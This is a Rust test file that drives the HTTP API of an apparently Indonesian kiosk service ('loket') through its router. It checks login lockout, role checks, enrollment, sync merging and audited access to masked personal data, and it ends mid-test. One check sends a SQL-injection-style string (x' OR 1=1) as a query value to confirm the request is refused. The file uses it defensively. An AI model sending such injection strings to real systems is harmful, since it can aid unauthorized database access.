//! The API driven through the router, without a socket.

use std::collections::BTreeMap;
use std::net::SocketAddr;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode, header};
use serde_json::{Value, json};
use tower::ServiceExt;

use super::*;
use crate::auth::Role;
use crate::setup::{self, InitArgs, NewUser};

struct Fixture {
    _dir: tempfile::TempDir,
    app: Router,
    state: AppState,
}

const ADMIN_PASSWORD: &str = "rahasia-admin-1";

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    setup::init(InitArgs {
        data: data.clone(),
        database: None,
        admin_user: "admin".parse().unwrap(),
        admin_password: ADMIN_PASSWORD.into(),
        hostnames: vec![],
    })
    .unwrap();
    setup::add_user(
        &setup::Place::local(&data),
        NewUser {
            username: "pengawas".parse().unwrap(),
            password: "rahasia-pengawas".into(),
            role: Role::Supervisor,
            agency: None,
            region: Vec::new(),
            kelurahan: None,
        },
    )
    .unwrap();
    let config = Config { data: data.clone(), ..Config::default() };
    let db = Db::open(&config.db_path()).unwrap();
    let seal = db.write(crate::seal::SealKey::load_or_create).unwrap();
    let writer = crate::central::Writer::new(&seal);
    let state = AppState::new(db, config, seal, writer);
    Fixture { _dir: dir, app: router(state.clone()), state }
}

async fn call(app: &Router, method: &str, uri: &str, token: Option<&str>, body: Option<Value>) -> (StatusCode, Value) {
    let mut req = Request::builder().method(method).uri(uri);
    if let Some(t) = token {
        req = req.header(header::AUTHORIZATION, format!("Bearer {t}"));
    }
    let req = match body {
        Some(b) => req.header(header::CONTENT_TYPE, "application/json").body(Body::from(b.to_string())),
        None => req.body(Body::empty()),
    }
    .unwrap();
    let resp = app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
    let value =
        serde_json::from_slice(&bytes).unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into()));
    (status, value)
}

/// A web-app session for the admin, as its login form would open; the
/// token for the `__Host-loket_session` cookie.
fn web_session(f: &Fixture) -> String {
    web_session_for(f, "admin")
}

/// A web-app session for any existing user.
fn web_session_for(f: &Fixture, username: &str) -> String {
    let (token, hash) = crate::auth::new_token();
    let user: crate::auth::Username = username.parse().unwrap();
    f.state.db.write(|tx| crate::store::accounts::create_session(tx, &hash, &user, i64::MAX / 2, 0)).unwrap();
    token
}

fn code(v: &Value) -> &str {
    v["error"]["code"].as_str().unwrap_or("")
}

async fn login(app: &Router, username: &str, password: &str) -> (StatusCode, Value) {
    call(app, "POST", "/api/login", None, Some(json!({ "username": username, "password": password }))).await
}

async fn admin_token(app: &Router) -> String {
    let (status, body) = login(app, "admin", ADMIN_PASSWORD).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    body["token"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn health_and_unknown_routes() {
    let f = fixture();
    let (status, body) = call(&f.app, "GET", "/healthz", None, None).await;
    assert_eq!((status, body["status"].as_str()), (StatusCode::OK, Some("ok")));
    let (status, body) = call(&f.app, "GET", "/readyz", None, None).await;
    assert_eq!((status, body["status"].as_str()), (StatusCode::OK, Some("ok")));
    let (status, body) = call(&f.app, "GET", "/livez", None, None).await;
    assert_eq!((status, body["status"].as_str()), (StatusCode::OK, Some("alive")));
    let (status, body) = call(&f.app, "GET", "/nope", None, None).await;
    assert_eq!((status, code(&body)), (StatusCode::NOT_FOUND, "not_found"));
    // Issue 15, item 7: a browser gets a page, the API its JSON whatever it asks.
    let page = |path: &str| {
        axum::http::Request::get(path).header(axum::http::header::ACCEPT, "text/html,*/*;q=0.8").body(Body::empty())
    };
    let resp = f.app.clone().oneshot(page("/nope").unwrap()).await.unwrap();
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    assert!(resp.headers()["content-type"].to_str().unwrap().starts_with("text/html"));
    assert!(resp.headers()["content-security-policy"].to_str().unwrap().contains("default-src 'none'"));
    let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
    assert!(html.contains("id=\"error-message\">Halaman ini tidak ada.<"), "{html}");
    let resp = f.app.clone().oneshot(page("/api/nope").unwrap()).await.unwrap();
    let v: Value = serde_json::from_slice(&axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap()).unwrap();
    assert_eq!(code(&v), "not_found");
}

#[tokio::test]
async fn login_checks_the_password_and_limits_failures() {
    let f = fixture();
    let (status, body) = login(&f.app, " Admin ", ADMIN_PASSWORD).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["role"], "admin");
    assert!(body["expires_at"].as_str().unwrap().ends_with("+07:00"), "{body}");

    let (status, body) = login(&f.app, "nobody", "whatever-123").await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"));
    for _ in 0..f.state.config.login_failures_max {
        let (status, body) = login(&f.app, "admin", "wrong-password").await;
        assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"));
    }
    let (status, body) = login(&f.app, "admin", ADMIN_PASSWORD).await;
    assert_eq!((status, code(&body)), (StatusCode::TOO_MANY_REQUESTS, "too_many_attempts"), "even the right password");
    // The wait is the rest of the 15-minute window, named in minutes.
    let message = body["error"]["message"].as_str().unwrap();
    assert!(message.contains("dalam 15 menit") && message.contains("in 15 minutes"), "{message}");

    let (status, body) = call(&f.app, "POST", "/api/login", None, Some(json!({ "username": "a", "pw": "b" }))).await;
    assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "invalid_body"));
    let (status, body) = call(&f.app, "POST", "/api/login", None, Some(json!({ "password": "b" }))).await;
    assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "missing_field"));
}

#[tokio::test]
async fn sessions_end_at_logout() {
    let f = fixture();
    let token = admin_token(&f.app).await;
    let (status, _) = call(&f.app, "GET", "/api/admin/kiosks", Some(&token), None).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = call(&f.app, "POST", "/api/logout", Some(&token), None).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, body) = call(&f.app, "GET", "/api/admin/kiosks", Some(&token), None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
}

#[tokio::test]
async fn admin_routes_need_an_admin() {
    let f = fixture();
    let (status, body) = call(&f.app, "GET", "/api/admin/kiosks", None, None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
    let (status, body) = call(&f.app, "GET", "/api/admin/kiosks", Some(&"ab".repeat(32)), None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
    let (_, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
    let token = body["token"].as_str().unwrap();
    let (status, body) = call(&f.app, "GET", "/api/admin/kiosks", Some(token), None).await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "forbidden"));
    let enroll = json!({ "kelurahan": "12.71.01.1001" });
    let (status, body) = call(&f.app, "POST", "/api/admin/enroll-codes", Some(token), Some(enroll)).await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "forbidden"));
}

fn actor(i: u8) -> String {
    format!("{:032x}", u128::from(i) + 0xabc)
}

#[tokio::test]
async fn enrollment_from_code_to_revocation() {
    let f = fixture();
    let admin = admin_token(&f.app).await;
    let (status, body) = call(
        &f.app,
        "POST",
        "/api/admin/enroll-codes",
        Some(&admin),
        Some(json!({ "kelurahan": "12.71.01.1001", "ttl_seconds": 3600 })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let enroll_code = body["code"].as_str().unwrap().to_owned();
    assert_eq!(enroll_code.len(), 19);

    let enroll =
        |code: &str, actor: String| json!({ "code": code, "actor": actor, "version": "0.1.0", "future_field": true });
    let (status, body) = call(&f.app, "POST", "/api/enroll", None, Some(enroll(&enroll_code, actor(1)))).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["kiosk_code"], "K001");
    assert_eq!(body["kelurahan"], "12.71.01.1001");
    assert!(body["name"].as_str().unwrap().starts_with("Kiosk Kelurahan"), "{body}");
    let token = body["token"].as_str().unwrap().to_owned();
    let kiosk_id = body["kiosk_id"].as_str().unwrap().to_owned();

    let (status, body) = call(&f.app, "GET", "/api/kiosk/whoami", Some(&token), None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body, json!({ "id": kiosk_id, "code": "K001", "kelurahan": "12.71.01.1001", "actor": actor(1) }));

    let (status, body) = call(&f.app, "POST", "/api/enroll", None, Some(enroll(&enroll_code, actor(2)))).await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "enrollment_code_used"));
    let (status, body) = call(&f.app, "POST", "/api/enroll", None, Some(enroll("AAAA-BBBB-CCCC-DDDD", actor(2)))).await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "enrollment_code_invalid"));

    // A second kiosk may not claim the first one's actor.
    let (_, body) =
        call(&f.app, "POST", "/api/admin/enroll-codes", Some(&admin), Some(json!({ "kelurahan": "12.71.01.1002" })))
            .await;
    let second = body["code"].as_str().unwrap().to_owned();
    let (status, body) = call(&f.app, "POST", "/api/enroll", None, Some(enroll(&second, actor(1)))).await;
    assert_eq!((status, code(&body)), (StatusCode::CONFLICT, "actor_taken"));
    // ... and that refusal left the code usable.
    let (status, body) = call(&f.app, "POST", "/api/enroll", None, Some(enroll(&second, actor(3)))).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["kiosk_code"], "K002");
    let second_token = body["token"].as_str().unwrap().to_owned();

    // A kiosk restored from an older copy of its disk registers the new
    // actor `kiosk restore` gave it (issue 18); a retry is answered the same.
    let new_actor = |actor: String| Some(json!({ "actor": actor }));
    for _ in 0..2 {
        let (status, body) = call(&f.app, "POST", "/api/kiosk/actor", Some(&token), new_actor(actor(4))).await;
        assert_eq!((status, &body["actor"]), (StatusCode::OK, &json!(actor(4))), "{body}");
    }
    // Nobody else's actor, neither an enrollment actor nor a restored one.
    for taken in [actor(4), actor(1)] {
        let (status, body) = call(&f.app, "POST", "/api/kiosk/actor", Some(&second_token), new_actor(taken)).await;
        assert_eq!((status, code(&body)), (StatusCode::CONFLICT, "actor_taken"));
    }
    let (status, body) = call(&f.app, "POST", "/api/kiosk/actor", Some(&token), new_actor("xyz".into())).await;
    assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "invalid_actor"));
    let (status, body) = call(&f.app, "POST", "/api/kiosk/actor", None, new_actor(actor(5))).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
    let (_, body) =
        call(&f.app, "POST", "/api/admin/enroll-codes", Some(&admin), Some(json!({ "kelurahan": "12.71.01.1003" })))
            .await;
    let third = body["code"].as_str().unwrap().to_owned();
    let (status, body) = call(&f.app, "POST", "/api/enroll", None, Some(enroll(&third, actor(4)))).await;
    assert_eq!((status, code(&body)), (StatusCode::CONFLICT, "actor_taken"));
    // A stolen credential cannot add actors without end.
    let held = 2;
    for i in 0..(crate::store::kiosks::ACTORS_MAX - held) {
        let (status, body) =
            call(&f.app, "POST", "/api/kiosk/actor", Some(&token), new_actor(actor(100 + i as u8))).await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    let (status, body) = call(&f.app, "POST", "/api/kiosk/actor", Some(&token), new_actor(actor(99))).await;
    assert_eq!((status, code(&body)), (StatusCode::CONFLICT, "too_many_actors"));
    let audit = f.state.db.read(|c| crate::store::accounts::audit_log(c, 100)).unwrap();
    let registered = audit.iter().filter(|r| r.3 == "kiosk_new_actor" && r.1 == "kiosk:K001").count();
    assert_eq!(registered as i64, crate::store::kiosks::ACTORS_MAX - 1, "each new actor audited once");

    let (status, body) = call(&f.app, "GET", "/api/admin/kiosks", Some(&admin), None).await;
    assert_eq!(status, StatusCode::OK);
    let items = body["items"].as_array().unwrap();
    assert_eq!(items.len(), 2);
    assert_eq!(items[0]["code"], "K001");
    assert_eq!(items[0]["revoked"], false);
    assert_eq!(items[0]["last_seen"], Value::Null);

    let (status, body) =
        call(&f.app, "POST", &format!("/api/admin/kiosks/{kiosk_id}/revoke"), Some(&admin), None).await;
    assert_eq!((status, &body["revoked"]), (StatusCode::OK, &Value::Bool(true)), "{body}");
    let (status, body) = call(&f.app, "GET", "/api/kiosk/whoami", Some(&token), None).await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "kiosk_revoked"));
    let (status, body) = call(&f.app, "GET", "/api/kiosk/whoami", Some(&"0".repeat(64)), None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unknown_kiosk"));
    let (status, body) = call(&f.app, "GET", "/api/kiosk/whoami", Some("short"), None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unknown_kiosk"));
    let (status, body) = call(&f.app, "POST", "/api/admin/kiosks/K999/revoke", Some(&admin), None).await;
    assert_eq!((status, code(&body)), (StatusCode::NOT_FOUND, "not_found"));
}

#[tokio::test]
async fn enrollment_input_is_checked() {
    let f = fixture();
    let admin = admin_token(&f.app).await;
    for (body, want) in [
        (json!({ "kelurahan": "12.71" }), "invalid_kelurahan"),
        (json!({ "kelurahan": "12.71.01.1001", "ttl_seconds": 400 * 24 * 3600 }), "invalid_ttl"),
        (json!({ "kelurahan": "12.71.01.1001", "extra": 1 }), "invalid_body"),
        // Well-formed, but not in the region list (issue 14, item 13).
        (json!({ "kelurahan": "12.71.01.1013" }), "unknown_kelurahan"),
        (json!({ "kelurahan": "31.74.01.1001" }), "unknown_kelurahan"),
    ] {
        let (status, got) = call(&f.app, "POST", "/api/admin/enroll-codes", Some(&admin), Some(body)).await;
        assert_eq!((status, code(&got)), (StatusCode::UNPROCESSABLE_ENTITY, want));
    }
    let good = "0000-0000-0000-0000";
    for (body, want) in [
        (json!({ "actor": actor(1), "version": "1" }), "missing_field"),
        (json!({ "code": good, "actor": "xyz", "version": "1" }), "invalid_actor"),
        (json!({ "code": good, "actor": actor(1), "version": "1 2" }), "invalid_version"),
        (json!({ "code": good, "actor": actor(1), "version": "1", "name": "a\u{0}b" }), "invalid_name"),
    ] {
        let (status, got) = call(&f.app, "POST", "/api/enroll", None, Some(body)).await;
        assert_eq!((status, code(&got)), (StatusCode::UNPROCESSABLE_ENTITY, want));
    }
}

#[tokio::test]
async fn an_expired_code_is_refused() {
    let f = fixture();
    let issued = {
        let db = f.state.db.clone();
        let k: loket_shared::KelurahanCode = "12.71.01.1001".parse().unwrap();
        db.write(|tx| enroll::issue(tx, &k, std::time::Duration::ZERO, store::now_ms())).unwrap()
    };
    let body = json!({ "code": issued.code.to_string(), "actor": actor(9), "version": "0.1.0" });
    let (status, body) = call(&f.app, "POST", "/api/enroll", None, Some(body)).await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "enrollment_code_expired"));
}

#[tokio::test]
async fn bodies_are_bounded_and_json_is_required() {
    let f = fixture();
    let big = json!({ "username": "x".repeat(f.state.config.api_body_bytes_max), "password": "y" });
    let (status, body) = call(&f.app, "POST", "/api/login", None, Some(big)).await;
    assert_eq!((status, code(&body)), (StatusCode::PAYLOAD_TOO_LARGE, "body_too_large"));
    let req = Request::post("/api/login").body(Body::from("{}")).unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let req =
        Request::post("/api/login").header(header::CONTENT_TYPE, "application/json").body(Body::from("{")).unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn metrics_are_prometheus_text() {
    let f = fixture();
    f.state.metrics.record_refusal("wrong_actor");
    let admin = admin_token(&f.app).await;
    let req =
        Request::get("/metrics").header(header::AUTHORIZATION, format!("Bearer {admin}")).body(Body::empty()).unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.headers()[header::CONTENT_TYPE], metrics::CONTENT_TYPE);
    let text = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
    assert!(text.contains("loket_sync_refusals_total{reason=\"wrong_actor\"} 1"), "{text}");
    assert!(text.contains("loket_kiosks_enrolled 0"), "{text}");
    assert!(text.contains("loket_sync_stale_commits_total 0"), "{text}");
    assert!(text.contains("loket_sync_full_checks_total 0"), "{text}");
}

/// Files one request on the server as kiosk K07 of 12.71.01.1001 would.
/// Registers a kiosk the tests push as, the way enrollment does (its row
/// and its actor: the server takes only changes by a registered actor).
/// Once: a second call changes nothing.
pub(super) fn enrolled(db: &crate::store::Db, kiosk: &crate::auth::KioskAuth) {
    let new = crate::store::kiosks::NewKiosk {
        id: &kiosk.id,
        code: &kiosk.code,
        kelurahan: &kiosk.kelurahan,
        name: "Kiosk uji",
        token_hash: &format!("test-{}", kiosk.id),
        actor: &kiosk.actor,
        version: "test",
    };
    db.write(|tx| crate::store::kiosks::insert(tx, &new, 0)).unwrap();
}

fn push_request(state: &AppState, nik: &str) -> String {
    push_request_n(state, nik, 1)
}

/// The `n`th request of the kiosk (its own id and ticket), pushed.
fn push_request_n(state: &AppState, nik: &str, n: u8) -> String {
    let (id, mut doc) = new_request_doc(nik, n);
    let req = sync_request(vec![push_of(id, &mut doc, &[])]);
    let kiosk = kiosk_k07();
    enrolled(&state.db, &kiosk);
    crate::sync::exchange(&state.db, &state.seal, &kiosk, &req, 1_764_300_000_000).unwrap();
    id.to_string()
}

/// The kiosk `push_request_n` pushes as (actor `[5; 16]`).
fn kiosk_k07() -> crate::auth::KioskAuth {
    crate::auth::KioskAuth {
        id: "k07".into(),
        code: "K07".parse().unwrap(),
        kelurahan: "12.71.01.1001".parse().unwrap(),
        actor: hex::encode([5u8; 16]),
    }
}

/// A push of `doc`: what it holds after `base` (change chunks), or all
/// of it saved whole when `base` is empty.
fn push_of(
    id: loket_shared::DocId,
    doc: &mut automerge::AutoCommit,
    base: &[automerge::ChangeHash],
) -> loket_shared::sync::PushDoc {
    let heads = doc.get_heads().iter().map(|h| h.0).collect();
    let changes = if base.is_empty() { doc.save() } else { doc.save_after(base) };
    loket_shared::sync::PushDoc {
        doc: id.to_bytes(),
        doc_type: loket_shared::sync::DocType::Request,
        base: base.iter().map(|h| h.0).collect(),
        changes,
        heads,
        fallback: None,
    }
}

fn sync_request(push: Vec<loket_shared::sync::PushDoc>) -> loket_shared::sync::SyncRequest {
    loket_shared::sync::SyncRequest {
        version: loket_shared::sync::PROTOCOL_VERSION,
        client: "test".into(),
        push,
        pull_after: 0,
        acked: 0,
        through: 0,
        pending: 0,
    }
}

/// The `n`th request of kiosk K07, as the kiosk creates it.
fn new_request_doc(nik: &str, n: u8) -> (loket_shared::DocId, automerge::AutoCommit) {
    use loket_shared::request::{Applicant, NewRequest, create};
    use loket_shared::workflow::{Event, EventKind};
    use loket_shared::{DocId, Hlc, Status, Ticket};
    let actor = [5u8; 16];
    let id = DocId::new_v7(1_764_300_000_000, [n; 10]);
    let hlc = Hlc { wall_ms: 1_764_300_000_000, counter: 0 };
    let mut doc = automerge::AutoCommit::new().with_actor(automerge::ActorId::from(actor));
    let new = NewRequest {
        id,
        ticket: Ticket::new(&"K07".parse().unwrap(), 11, 28, u32::from(n)),
        kelurahan: "12.71.01.1001".parse().unwrap(),
        kiosk: "K07".parse().unwrap(),
        service: "SKD".parse().unwrap(),
        created_at_ms: 1_764_300_000_000,
        hlc,
        applicant: Applicant {
            name: "Siti Aminah".parse().unwrap(),
            nik: nik.parse().unwrap(),
            phone: Some("081234567890".parse().unwrap()),
        },
        rating_key: None,
        create_event: Event {
            id: "e1".into(),
            hlc,
            node: hex::encode(actor),
            at_ms: 1_764_300_000_000,
            by: "citizen".into(),
            kind: EventKind::Create,
            from: None,
            to: Status::Submitted,
            note: None,
            agency: None,
            waiting: Vec::new(),
            result_ref: None,
            parents: vec![],
            seal: None,
        },
    };
    create(&mut doc, &new).unwrap();
    doc.commit();
    (id, doc)
}

/// Issue 17: the kiosks' usual push (change chunks that append an event)
/// is checked from its changes; a push that sends the request whole
/// (after a rewind) is checked against the request as stored. Both are
/// applied; `Stats::full_checks` (the `loket_sync_full_checks_total`
/// metric) counts the second only.
#[test]
fn an_appending_push_is_checked_from_its_changes_and_a_whole_one_against_the_store() {
    use loket_shared::Status;
    let f = fixture();
    let kiosk = kiosk_k07();
    enrolled(&f.state.db, &kiosk);
    let (id, mut doc) = new_request_doc("1271014101900003", 1);
    let exchange = |req| crate::sync::exchange(&f.state.db, &f.state.seal, &kiosk, &req, 1_764_300_000_000).unwrap();
    let (_, stats) = exchange(sync_request(vec![push_of(id, &mut doc, &[])]));
    assert_eq!(stats.full_checks, 0, "a new request is checked whole anyway, not counted");
    let step = |doc: &mut automerge::AutoCommit, n: u32, from: Status, to: Status, parent: &str| {
        let at = 1_764_300_000_000 + i64::from(n);
        let node = hex::encode([5u8; 16]);
        let e = crate::store::tests::transition(&format!("e{n}"), at, &node, from, to, vec![parent.into()]);
        loket_shared::request::append_event(doc, &e).unwrap();
        doc.commit();
    };
    let base = doc.get_heads();
    step(&mut doc, 2, Status::Submitted, Status::InProgress, "e1");
    let (resp, stats) = exchange(sync_request(vec![push_of(id, &mut doc, &base)]));
    assert!(matches!(resp.acks[0].outcome, loket_shared::sync::PushOutcome::Applied { .. }), "{:?}", resp.acks);
    assert_eq!(stats.full_checks, 0, "an append is checked from its changes");
    step(&mut doc, 3, Status::InProgress, Status::Completed, "e2");
    let (resp, stats) = exchange(sync_request(vec![push_of(id, &mut doc, &[])]));
    assert!(matches!(resp.acks[0].outcome, loket_shared::sync::PushOutcome::Applied { .. }), "{:?}", resp.acks);
    assert_eq!(stats.full_checks, 1, "the request sent whole is checked against the store");
    let stored = crate::store::engine::DocEngine::load(&f.state.db, &id.to_string()).unwrap().unwrap();
    let stored = stored.open(&id.to_string()).unwrap();
    assert_eq!(crate::store::docs::read_request(&stored).unwrap().0.events.len(), 3);
}

/// Two exchanges race (a kiosk retrying while its first try still runs):
/// the rival commits one of the two documents first. The exchange is
/// stale, merges again only the document the rival changed, and then
/// holds; each event is stored once.
#[test]
fn a_stale_exchange_merges_again_only_what_another_writer_changed() {
    use std::collections::HashMap;
    use std::sync::Mutex;

    use crate::store::engine::{Candidate, Commit, CommitOutcome, DocEngine, KioskActors, KioskMarks, StoredDoc};
    use crate::store::{Db, StoreError};
    use loket_shared::Status;
    use loket_shared::sync::{DocType, SyncRequest};

    /// The real store, with a rival exchange committed just before the
    /// first commit, and every load counted.
    struct Racing<'a> {
        db: &'a Db,
        seal: &'a crate::seal::SealKey,
        kiosk: &'a crate::auth::KioskAuth,
        rival: Mutex<Option<SyncRequest>>,
        loads: Mutex<HashMap<String, usize>>,
    }
    impl DocEngine for Racing<'_> {
        fn load(&self, doc_id: &str) -> Result<Option<StoredDoc>, StoreError> {
            *self.loads.lock().unwrap().entry(doc_id.to_owned()).or_default() += 1;
            self.db.load(doc_id)
        }
        fn pull_candidates(
            &self,
            kiosk_id: &str,
            kelurahan: &loket_shared::KelurahanCode,
            after: u64,
            limit: usize,
        ) -> Result<Vec<Candidate>, StoreError> {
            self.db.pull_candidates(kiosk_id, kelurahan, after, limit)
        }
        fn kiosk_marks(&self, kiosk_id: &str) -> Result<KioskMarks, StoreError> {
            self.db.kiosk_marks(kiosk_id)
        }
        fn kiosk_actors(
            &self,
            kelurahan: &loket_shared::KelurahanCode,
            kiosk_id: &str,
        ) -> Result<KioskActors, StoreError> {
            self.db.kiosk_actors(kelurahan, kiosk_id)
        }
        fn reference(&self, doc_type: DocType, kelurahan: Option<&str>) -> Result<Option<StoredDoc>, StoreError> {
            self.db.reference(doc_type, kelurahan)
        }
        fn commit(&self, commit: &Commit) -> Result<CommitOutcome, StoreError> {
            if let Some(rival) = self.rival.lock().unwrap().take() {
                crate::sync::exchange(self.db, self.seal, self.kiosk, &rival, 1_764_300_000_000).unwrap();
            }
            self.db.commit(commit)
        }
    }

    let f = fixture();
    let kiosk = kiosk_k07();
    enrolled(&f.state.db, &kiosk);
    let (x, mut doc_x) = new_request_doc("1271014101900003", 1);
    let (y, mut doc_y) = new_request_doc("1271014101900011", 2);
    let exchange = |engine: &dyn DocEngine, req| {
        crate::sync::exchange(engine, &f.state.seal, &kiosk, &req, 1_764_300_000_000).unwrap()
    };
    exchange(&f.state.db, sync_request(vec![push_of(x, &mut doc_x, &[]), push_of(y, &mut doc_y, &[])]));
    let node = hex::encode([5u8; 16]);
    let (base_x, base_y) = (doc_x.get_heads(), doc_y.get_heads());
    for doc in [&mut doc_x, &mut doc_y] {
        let e = crate::store::tests::transition(
            "e2",
            1_764_300_000_001,
            &node,
            Status::Submitted,
            Status::InProgress,
            vec!["e1".into()],
        );
        loket_shared::request::append_event(doc, &e).unwrap();
        doc.commit();
    }
    let racing = Racing {
        db: &f.state.db,
        seal: &f.state.seal,
        kiosk: &kiosk,
        rival: Mutex::new(Some(sync_request(vec![push_of(x, &mut doc_x, &base_x)]))),
        loads: Mutex::default(),
    };
    let (resp, stats) =
        exchange(&racing, sync_request(vec![push_of(x, &mut doc_x, &base_x), push_of(y, &mut doc_y, &base_y)]));
    assert_eq!(stats.stale_commits, 1, "the rival's commit made the first attempt stale");
    let loads = racing.loads.lock().unwrap().clone();
    assert_eq!(loads.get(&x.to_string()), Some(&2), "the document the rival changed is merged again: {loads:?}");
    assert_eq!(loads.get(&y.to_string()), Some(&1), "the other one is not: {loads:?}");
    for ack in &resp.acks {
        assert!(matches!(ack.outcome, loket_shared::sync::PushOutcome::Applied { .. }), "{:?}", resp.acks);
    }
    for (id, doc) in [(x, &mut doc_x), (y, &mut doc_y)] {
        let stored = f.state.db.load(&id.to_string()).unwrap().unwrap();
        let mut stored = stored.open(&id.to_string()).unwrap();
        assert_eq!(stored.get_heads(), doc.get_heads(), "{id} holds the kiosk's event");
        let view = crate::store::docs::read_request(&stored).unwrap().0;
        assert_eq!(view.events.len(), 2, "{id}: each event once");
    }
}

/// Full NIK and phone: masked everywhere by default; the full values only
/// for an admin who gives a reason, and every such view is audited. A
/// supervisor never sees them; an unknown request is 404.
#[tokio::test]
async fn full_personal_data_is_for_some_roles_only_and_audited() {
    let f = fixture();
    let nik = "1271014101900003";
    let id = push_request(&f.state, nik);
    let admin = admin_token(&f.app).await;
    let (_, sup) = login(&f.app, "pengawas", "rahasia-pengawas").await;
    let sup = sup["token"].as_str().unwrap().to_owned();

    let (status, list) = call(&f.app, "GET", "/api/admin/requests", Some(&admin), None).await;
    assert_eq!(status, StatusCode::OK, "{list}");
    assert!(!list.to_string().contains(nik), "a list shows a full NIK: {list}");
    let (_, detail) = call(&f.app, "GET", &format!("/api/admin/requests/{id}"), Some(&sup), None).await;
    assert!(!detail.to_string().contains(nik) && !detail.to_string().contains("81234567890"), "{detail}");
    assert!(detail.to_string().contains("127101"), "masked NIK keeps its region prefix: {detail}");

    let personal = format!("/api/admin/requests/{id}/personal");
    let (status, v) = call(&f.app, "GET", &format!("{personal}?reason=verifikasi%20KK"), Some(&sup), None).await;
    assert_eq!((status, code(&v)), (StatusCode::FORBIDDEN, "forbidden_personal_data"));
    let (status, v) = call(&f.app, "GET", &personal, Some(&admin), None).await;
    assert_eq!((status, code(&v)), (StatusCode::UNPROCESSABLE_ENTITY, "reason_required"));
    let (status, v) = call(&f.app, "GET", &format!("{personal}?reason=x%27%20OR%201%3D1"), None, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{v}");
    let (_, audit) = call(&f.app, "GET", "/api/admin/audit", Some(&admin), None).await;
    assert_eq!(audit["items"].as_array().map(Vec::len), Some(0), "refused views are not views: {audit}");

    let (status, v) = call(&f.app, "GET", &format!("{personal}?reason=verifikasi%20KK"), Some(&admin), None).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["nik"], nik);
    assert_eq!(v["phone"], "+6281234567890");
    let (_, audit) = call(&f.app, "GET", "/api/admin/audit", Some(&admin), None).await;
    assert_eq!(audit["items"][0]["username"], "admin", "{audit}");
    assert_eq!(audit["items"][0]["request"], id.as_str());
    assert_eq!(audit["items"][0]["reason"], "verifikasi KK");
    let (status, _) = call(&f.app, "GET", "/api/admin/audit", Some(&sup), None).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "only admins read the audit log");

    let unknown =
        format!("/api/admin/requests/{}/personal?reason=verifikasi%20KK", "01a2213c-f9ca-7e80-af78-4ab02f7c4e2b");
    let (status, _) = call(&f.app, "GET", &unknown, Some(&admin), None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// A kiosk that syncs far more often than any healthy one is answered 429
/// `rate_limited` with a Retry-After, and nothing else changes.
#[tokio::test]
async fn a_kiosk_syncing_too_often_is_rate_limited() {
    let mut f = fixture();
    // A quota whose refill (one per 15 s) no slow run of this test sees:
    // with the default (4 per second) a loaded machine refilled the burst
    // before it was spent.
    let config = Config { kiosk_syncs_per_minute: 4, ..(*f.state.config).clone() };
    let seal = f.state.db.write(crate::seal::SealKey::load_or_create).unwrap();
    let writer = crate::central::Writer::new(&seal);
    f.state = AppState::new(f.state.db.clone(), config, seal, writer);
    f.app = router(f.state.clone());
    let admin = admin_token(&f.app).await;
    let (_, body) = call(
        &f.app,
        "POST",
        "/api/admin/enroll-codes",
        Some(&admin),
        Some(json!({ "kelurahan": "12.71.01.1001", "ttl_seconds": 3600 })),
    )
    .await;
    let code_ = body["code"].as_str().unwrap().to_owned();
    let (_, body) =
